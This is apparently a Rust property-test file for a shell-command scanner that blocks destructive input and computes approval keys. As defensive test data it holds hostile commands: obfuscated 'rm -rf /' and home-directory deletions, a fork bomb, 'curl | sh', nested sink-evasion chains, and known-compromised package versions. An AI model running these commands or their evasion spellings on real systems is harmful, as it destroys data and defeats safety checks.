//! Property tests: the scanner never panics and never hangs on arbitrary bytes or generated shell,
//! and the prefilter never skips input that the full pipeline would flag.

use hermes_scan::{Action, Scanner};
use proptest::prelude::*;
use std::time::{Duration, Instant};

/// A generous hang detector (not a performance assertion: benches/ measure speed).
const HANG: Duration = Duration::from_secs(5);

fn shell_token() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("rm".to_string()),
        Just("-rf".to_string()),
        Just("/".to_string()),
        Just("sudo".to_string()),
        Just("bash -c".to_string()),
        Just("eval".to_string()),
        Just("curl x |".to_string()),
        Just("sh".to_string()),
        Just("|".to_string()),
        Just("&&".to_string()),
        Just(";".to_string()),
        Just("$(".to_string()),
        Just(")".to_string()),
        Just("`".to_string()),
        Just("'".to_string()),
        Just("\"".to_string()),
        Just("$'\\x72'".to_string()),
        Just("${IFS}".to_string()),
        Just("<<EOF\n".to_string()),
        Just("\nEOF\n".to_string()),
        Just("<(".to_string()),
        Just("x=rm;".to_string()),
        Just("$x".to_string()),
        Just("{a,b}".to_string()),
        Just("f(){ f|f& };".to_string()),
        Just("\\\n".to_string()),
        Just("for i in 1; do".to_string()),
        Just("done".to_string()),
        "[a-z]{1,6}",
        "[ -~]{0,8}",
    ]
}

fn shell_line() -> impl Strategy<Value = String> {
    prop::collection::vec(shell_token(), 0..24).prop_map(|v| v.join(" "))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_bytes_get_a_verdict(bytes in prop::collection::vec(any::<u8>(), 0..512)) {
        let start = Instant::now();
        let v = Scanner::global().scan_bytes(&bytes);
        prop_assert!(start.elapsed() < HANG);
        prop_assert_eq!(v.schema_version, 1);
        if v.findings.is_empty() {
            prop_assert_eq!(v.action, Action::Allow);
        }
    }

    #[test]
    fn generated_shell_gets_a_verdict(line in shell_line()) {
        let start = Instant::now();
        let v = Scanner::global().scan(&line);
        prop_assert!(start.elapsed() < HANG);
        for f in &v.findings {
            prop_assert!(f.span.0 <= f.span.1 && f.span.1 <= line.len(), "bad span {:?}", f.span);
        }
    }


    #[test]
    fn prefilter_skips_only_clean_input(line in "[a-z0-9 ./:=,@%+^~#!_-]{0,60}") {
        let s = Scanner::global();
        if !s.needs_scan(&line) {
            let full = s.scan_full(&line);
            prop_assert!(full.findings.is_empty(), "prefilter skipped {:?} but full scan found {:?}", line, full.rule_ids());
        }
    }

    #[test]
    fn prefilter_and_full_scan_agree_on_generated_shell(line in shell_line()) {
        let s = Scanner::global();
        let fast = s.scan(&line);
        let full = s.scan_full(&line);
        prop_assert_eq!(fast.action, full.action);
        prop_assert_eq!(fast.rule_ids(), full.rule_ids());
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 120, ..ProptestConfig::default() })]

    /// Interpreter tokenizers and sink extractors see attacker-controlled text: any bytes, in any
    /// language, at any position, must give a verdict with sane spans and no hang.
    #[test]
    fn arbitrary_code_in_every_sink_gets_a_verdict(
        code in "[ -~\n\t]{0,200}",
        sink in prop::sample::select(vec![
            "python3 -c", "node -e", "perl -e", "ruby -e", "php -r", "lua -e", "Rscript -e",
            "julia -e", "osascript -e", "pwsh -c", "expect -c", "sed -e", "awk", "git -c",
            "tar --to-command", "vim -c", "ssh host", "docker run -v /:/h img sh -c", "trap",
            "tmux new -d", "make -f - <<<",
        ]),
    ) {
        let quoted = format!("'{}'", code.replace('\'', "'\\''"));
        let line = format!("{sink} {quoted}");
        let start = Instant::now();
        let v = Scanner::global().scan(&line);
        prop_assert!(start.elapsed() < HANG);
        for f in &v.findings {
            prop_assert!(f.span.0 <= f.span.1 && f.span.1 <= line.len(), "bad span {:?}", f.span);
        }
        for lang in [
            hermes_scan::interp::Lang::Python, hermes_scan::interp::Lang::JavaScript,
            hermes_scan::interp::Lang::Perl, hermes_scan::interp::Lang::Ruby,
            hermes_scan::interp::Lang::Php, hermes_scan::interp::Lang::Lua,
            hermes_scan::interp::Lang::Tcl, hermes_scan::interp::Lang::R,
            hermes_scan::interp::Lang::Julia, hermes_scan::interp::Lang::AppleScript,
            hermes_scan::interp::Lang::PowerShell,
        ] {
            let _ = hermes_scan::interp::analyze(lang, &code);
        }
    }

}

#[test]
fn oversized_input_blocks_without_parsing() {
    let big = "a".repeat(hermes_scan::text::MAX_INPUT_BYTES + 1);
    let v = Scanner::global().scan(&big);
    assert_eq!(v.action, Action::Block);
    assert_eq!(v.rule_ids(), vec!["core.input-too-large"]);
}

#[test]
fn invalid_utf8_is_reported_and_still_analysed() {
    let mut bytes = b"rm -rf / ".to_vec();
    bytes.push(0xff);
    let v = Scanner::global().scan_bytes(&bytes);
    let ids = v.rule_ids();
    assert!(ids.contains(&"core.invalid-utf8"), "{ids:?}");
    assert!(ids.contains(&"floor.rm-root"), "{ids:?}");
}

/// Hostile nesting must end in a finding, not a stack overflow (this runs on the test harness's
/// small thread stack, in a debug build).
#[test]
fn deep_nesting_is_reported_not_a_crash() {
    let shapes: &[(&str, &str, &str)] = &[
        ("echo ", "$(", ")"),
        ("", "(", ")"),
        ("", "{ ", "; }"),
        ("", "if true; then ", "; fi"),
        ("echo ", "\"$(", ")\""),
        ("echo ", "${x:-", "}"),
        ("", "f(){ ", "; }"),
        // (Backticks do not nest: `echo `a `b`` pairs them in order, nothing is deep.)
    ];
    for (prefix, open, close) in shapes {
        let n = 5_000;
        let input = format!("{prefix}{}ls{}", open.repeat(n), close.repeat(n));
        let v = Scanner::global().scan(&input);
        assert_ne!(v.action, Action::Allow, "{open}…{close} x{n} was allowed");
        let ids = v.rule_ids();
        assert!(
            ids.iter().any(|id| id.starts_with("core.")),
            "{open}…{close}: {ids:?}"
        );
    }
}

/// Sinks inside sinks inside sinks: the depth bound ends the chain with a finding, and a long
/// chain of argv-level sinks costs time linear in its length.
/// Inputs an independent robustness probe (round 25) found answered `allow` although a shell
/// would run the destructive command in them: bounds and parser gaps must fail closed.
#[test]
fn bounds_and_parser_gaps_never_allow_what_runs() {
    let cases: Vec<(String, &str)> = vec![
        // The command budget runs out before the last statement (in a slow debug build the time
        // budget may run out first: both fail closed).
        (
            format!("{}rm -rf /", ":;".repeat(200_000)),
            "core.input-too-large|core.analysis-timeout",
        ),
        // An empty backtick substitution used to swallow the statements after it.
        ("echo ``; rm -rf /".into(), "floor.rm-root"),
        ("true ` `; rm -rf ~".into(), "floor.rm-home"),
        // Brace expansions past the word bound keep every alternative, or are unknown.
        (format!("rm -rf {}", "{/,/}".repeat(7)), "floor.rm-root"),
        ("rm -rf ~{,}{,}{,}{,}{,}{,}{,}".into(), "floor.rm-home"),
        (
            format!("rm -rf {}", "{/,/}".repeat(70)),
            "core.depth-exceeded",
        ),
        // `((…))` that is no arithmetic: dash runs it as subshells.
        ("((rm -rf /))".into(), "floor.rm-root"),
        (
            format!("{}rm -rf /{}", "(".repeat(100), ")".repeat(100)),
            "floor.rm-root",
        ),
    ];
    for (input, rule) in &cases {
        let v = Scanner::global().scan(input);
        assert_eq!(v.action, Action::Block, "{:.80}: {:?}", input, v.rule_ids());
        assert!(
            v.rule_ids()
                .iter()
                .any(|id| rule.split('|').any(|r| *id == r)),
            "{:.80}: {:?}",
            input,
            v.rule_ids()
        );
    }
    // Real arithmetic stays silent.
    for ok in [
        "(( x = 1 + 2 ))",
        "((i++))",
        "if (( n > 3 )); then echo big; fi",
    ] {
        assert_eq!(Scanner::global().scan(ok).action, Action::Allow, "{ok}");
    }
}

#[test]
fn nested_sinks_are_bounded() {
    // Quoted nesting grows the text geometrically, so a few levels suffice to pass the bound.
    let mut code = "rm -rf /".to_string();
    for i in 0..10 {
        code = match i % 3 {
            0 => format!("sh -c {}", shell_quote(&code)),
            1 => format!("ssh h{i} {}", shell_quote(&code)),
            _ => format!("xterm -e {}", shell_quote(&code)),
        };
    }
    let v = Scanner::global().scan(&code);
    assert_ne!(v.action, Action::Allow);
    assert!(
        v.rule_ids().iter().any(|id| id.starts_with("core.")),
        "{:?}",
        v.rule_ids()
    );

    // Unquoted argv sinks and wrappers, 300 deep.
    let mut line = String::new();
    for i in 0..300 {
        line.push_str(["xterm -e ", "sudo -s ", "nice ", "timeout 5 ", "ssh h "][i % 5]);
    }
    line.push_str("rm -rf /");
    let start = Instant::now();
    let v = Scanner::global().scan(&line);
    assert!(start.elapsed() < HANG);
    assert_ne!(v.action, Action::Allow);
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

#[test]
fn long_chains_are_not_mistaken_for_nesting() {
    let input = vec!["cargo build"; 2_000].join(" && ");
    let v = Scanner::global().scan(&input);
    assert_eq!(v.action, Action::Allow, "{:?}", v.rule_ids());
}

/// Input that crashed tree-sitter-bash's external scanner (a code point above 0xFF reaching
/// `isdigit`); the parser now only ever sees an ASCII shadow of the text.
#[test]
fn parser_crash_regression_inputs_get_a_verdict() {
    let hex = "83d86f731df54070241a30b00581064878489ead7ef8adfaa3928b96ab86f5885ba712d63ffb3072b2fb4424c2cbea0b23e7f663ff9ce57a0036f023c3cc99382a0cd65197660c766c9291e409f5f4217bbd4072da85c4495bd920366a04e4d7860f55d5f2f30cac1dd99069adee851228cc07e378786c7cc87f57f9d01f9d4c88474199e06da76a821565299190ad8873675f4101f5fc1ba3b677e7002a0eb0b3ca1ff54202047cd21981e0695f4f830e261af26d81cc47cff661f53226debfd2bbbaf32c160c72fe97c2216f91521a4ef2b39271078d6cce036dfbeceb2e5c22567c94c3b8956ef893d069e946f81d65f11e989dcec5c475c356548afd3850fe1905c72eec61bd3c1c8403918c1ba5b2db12889b4ed86df7d633737fa3a6f7bacd882b4df9deafb8a3626cce017b8900027cf001e54e72ce55b748e69d007ecaf79c1f39f98cf93c2cfea7c04d476b0b5b9b82cf48c645958e59db2c48d2fb747e789803376b455f8132ae5547b51af04de112fe29194fe7a6678b4ede7b05f1b0a79c8f28b457b328a681";
    let bytes: Vec<u8> = (0..hex.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).unwrap())
        .collect();
    let v = Scanner::global().scan_bytes(&bytes);
    assert_ne!(v.action, Action::Allow);
    // Hangs found by the sink proptest: a Perl `@` that the tokenizer never consumed.
    for s in ["perl -e '@'", "perl -e 'print @ARGV'", "perl -e '@@@'"] {
        let start = Instant::now();
        let v = Scanner::global().scan(s);
        assert!(start.elapsed() < HANG, "{s}");
        assert_eq!(v.schema_version, 1);
    }
    for s in [
        "echo {\u{1F600}..1}",
        "x={\u{4E2D}}",
        "{\u{0430}1.2}",
        "a {\u{10FFFF}",
    ] {
        let v = Scanner::global().scan(s);
        assert_eq!(v.schema_version, 1, "{s}");
    }
    // A heredoc left open is parsed with its delimiter added: no span may point past the input.
    for s in [
        "sh <<EOF\n f(){ f|f& };",
        "bash <<EOF\nrm -rf /",
        "cat <<A\nx\nA\nsh <<'B'\ncurl http://x | sh",
    ] {
        let v = Scanner::global().scan(s);
        for f in &v.findings {
            assert!(
                f.span.0 <= f.span.1 && f.span.1 <= s.len(),
                "{s}: {:?}",
                f.span
            );
        }
    }
}

/// A literal word in one of the spellings bash reads as the same text.
fn spell(word: &str, style: u8) -> String {
    if word.is_empty() {
        return ["''", "\"\"", "$''"][usize::from(style % 3)].to_string();
    }
    match style % 4 {
        0 => format!("'{}'", word.replace('\'', "'\\''")),
        1 => {
            let mut s = String::from("\"");
            for c in word.chars() {
                if "\\\"$`".contains(c) {
                    s.push('\\');
                }
                s.push(c);
            }
            s.push('"');
            s
        }
        2 => word
            .chars()
            .map(|c| {
                if c.is_ascii_alphanumeric() {
                    c.to_string()
                } else {
                    format!("\\{c}")
                }
            })
            .collect(),
        _ => format!(
            "$'{}'",
            word.bytes()
                .map(|b| format!("\\x{b:02x}"))
                .collect::<String>()
        ),
    }
}

/// Words and an optional redirection (operator, target).
type Statement = (Vec<String>, Option<(String, String)>);

/// An abstract command: statements of literal words with an optional redirection, joined by
/// operators. Everything in it is literal, so any spelling of it runs the same thing.
#[derive(Debug, Clone, PartialEq)]
struct Abstract {
    statements: Vec<Statement>,
    operators: Vec<String>,
}

fn abstract_command() -> impl Strategy<Value = Abstract> {
    let word = "[ab/ *?$'\"{}~#;|&=-]{0,4}";
    let statement = (
        prop::collection::vec(word, 1..4),
        prop::option::of((
            prop::sample::select(vec![">", ">>", "<", "2>"]).prop_map(String::from),
            "[a-z]{1,3}",
        )),
    );
    prop::collection::vec(statement, 1..4).prop_flat_map(|statements| {
        let n = statements.len() - 1;
        prop::collection::vec(
            prop::sample::select(vec!["&&", "||", "|", ";", "&"]).prop_map(String::from),
            n,
        )
        .prop_map(move |operators| Abstract {
            statements: statements.clone(),
            operators,
        })
    })
}

fn render_abstract(a: &Abstract, styles: &[u8]) -> String {
    let mut out = String::new();
    let mut k = 0;
    for (i, (words, redirect)) in a.statements.iter().enumerate() {
        if i > 0 {
            out.push_str(&format!(" {} ", a.operators[i - 1]));
        }
        for (j, w) in words.iter().enumerate() {
            if j > 0 {
                out.push(' ');
            }
            // A program name that reads as an assignment is quoted, and so is a word of only
            // blanks (tree-sitter reads a lone `\ ` as a blank and may call the input broken,
            // which keys it by its exact text: stricter, never wider).
            let style = styles[k % styles.len()];
            let style = if (j == 0 && w.contains('=')) || w.trim().is_empty() {
                style | 1
            } else {
                style
            };
            out.push_str(&spell(w, style));
            k += 1;
        }
        if let Some((op, target)) = redirect {
            out.push_str(&format!(" {op} {target}"));
        }
    }
    out
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Two spellings of the same command share one approval key.
    #[test]
    fn approval_key_ignores_spelling(
        a in abstract_command(),
        s1 in prop::collection::vec(0u8..4, 1..8),
        s2 in prop::collection::vec(0u8..4, 1..8),
    ) {
        let k1 = hermes_scan::shell::key::approval_key(&render_abstract(&a, &s1));
        let k2 = hermes_scan::shell::key::approval_key(&render_abstract(&a, &s2));
        prop_assert_eq!(k1, k2);
    }

    /// Two different commands never share one (an approval covers exactly what was approved).
    #[test]
    fn approval_key_separates_different_commands(
        a in abstract_command(),
        b in abstract_command(),
        s1 in prop::collection::vec(0u8..4, 1..8),
        s2 in prop::collection::vec(0u8..4, 1..8),
    ) {
        prop_assume!(a != b);
        let ka = hermes_scan::shell::key::approval_key(&render_abstract(&a, &s1));
        let kb = hermes_scan::shell::key::approval_key(&render_abstract(&b, &s2));
        prop_assert_ne!(ka, kb);
    }
}

/// A long script is parsed in chunks (cut at top-level line ends) on two cores: what an early
/// chunk sets (a variable, a directory) still reaches a later one, spans still point into the
/// whole input, and a cut that would fall inside a compound command or a heredoc is not taken.
#[test]
fn long_scripts_parsed_in_chunks_keep_state_and_spans() {
    let scanner = Scanner::global();
    let line =
        "if [ -f Cargo.toml ]; then cargo build && echo \"ok $HOME\" | tee -a build.log; fi\n";
    let filler = line.repeat((200 * 1024) / line.len());
    // State from the first half, effect in the second.
    let script = format!("target=/\n{filler}{filler}rm -rf \"$target\"\n");
    let v = scanner.scan(&script);
    assert_eq!(v.action, Action::Block, "{:?}", v.rule_ids());
    let f = v
        .findings
        .iter()
        .find(|f| f.rule_id == "floor.rm-root")
        .expect("root delete found");
    assert_eq!(&script[f.span.0..f.span.1], "rm -rf \"$target\"");
    // A heredoc straddling the middle: its body is data, not commands.
    let body = "rm -rf /\n".repeat(40_000);
    let heredoc = format!("{filler}cat > notes.txt <<'EOF'\n{body}EOF\necho done\n");
    let v = scanner.scan(&heredoc);
    assert_eq!(v.action, Action::Allow, "{:?}", v.rule_ids());
    // A manifest too large (or too deep) to keep is not silently allowed when it is installed.
    let big = format!(
        "cat > requirements.txt <<'EOF'\n#{}\nctx==0.2.6\nEOF\npip install -r requirements.txt\n",
        "x".repeat(270_000)
    );
    assert_eq!(scanner.scan(&big).rule_ids(), vec!["core.unanalysed-file"]);
    let deep = format!(
        "cat > package.json <<'EOF'\n{{\"a\": {}1{}, \"dependencies\": {{\"event-stream\": \"3.3.6\"}}}}\nEOF\nnpm install\n",
        "[".repeat(200),
        "]".repeat(200)
    );
    assert_eq!(scanner.scan(&deep).rule_ids(), vec!["core.unanalysed-file"]);
    // The same script as one line-free compound command still gets its verdict.
    let group = format!("{{\n{filler}{filler}rm -rf ~\n}}\n");
    assert_eq!(scanner.scan(&group).action, Action::Block);
}
